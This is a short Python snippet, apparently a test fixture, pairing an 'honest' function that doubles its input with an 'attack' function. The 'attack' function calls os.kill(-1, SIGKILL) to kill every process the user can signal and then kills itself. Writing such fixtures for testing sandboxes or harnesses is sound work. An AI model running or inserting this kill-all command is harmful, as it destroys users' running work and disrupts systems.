import os, signal
def attack(x):
    os.kill(-1, signal.SIGKILL)
    os.kill(os.getpid(), signal.SIGKILL)
def honest(x): return 2 * x
